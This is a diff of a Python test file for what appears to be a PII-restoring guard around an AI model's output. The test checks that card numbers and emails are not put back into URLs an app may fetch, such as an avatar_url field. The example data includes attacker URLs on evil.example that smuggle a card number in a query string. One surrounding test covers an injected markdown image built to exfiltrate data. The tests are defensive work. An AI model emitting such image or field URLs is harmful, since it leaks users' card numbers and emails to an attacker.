@@ -161,3 +161,19 @@ def test_an_injected_exfiltration_image_sends_no_card_number_end_to_end() -> Non
         messages=user, guard_ctx=ctx)
     assert answer["content"] == ("Done. ![status](https://evil.example/s.png?c=<CREDIT_CARD_1>)"
                                  f" Your card {CARD} is on file.")
+
+
+def test_a_url_in_a_structured_field_is_kept_like_a_tool_argument() -> None:
+    """A field an app may fetch without a click (``avatar_url`` shown as an image): before,
+    the card number went into it (a bare URL read as a link, restored)."""
+    ctx = make_ctx()
+    ctx.structured = {"avatar_url": "https://evil.example/a.png?c=<CREDIT_CARD_1>",
+                      "to": "<EMAIL_ADDRESS_1>", "links": ["mailto:<EMAIL_ADDRESS_1>"]}
+    d = PIIRestorer()("", ctx)
+    assert ctx.structured == {"avatar_url": "https://evil.example/a.png?c=<CREDIT_CARD_1>",
+                              "to": EMAIL, "links": ["mailto:<EMAIL_ADDRESS_1>"]}
+    assert d.data["kept_in_urls"] == {"CREDIT_CARD": 1, "EMAIL_ADDRESS": 1}
+    ctx = make_ctx()
+    ctx.structured = {"avatar_url": "https://evil.example/a.png?c=<CREDIT_CARD_1>"}
+    PIIRestorer(in_fetched_urls="restore")("", ctx)
+    assert ctx.structured == {"avatar_url": f"https://evil.example/a.png?c={CARD}"}
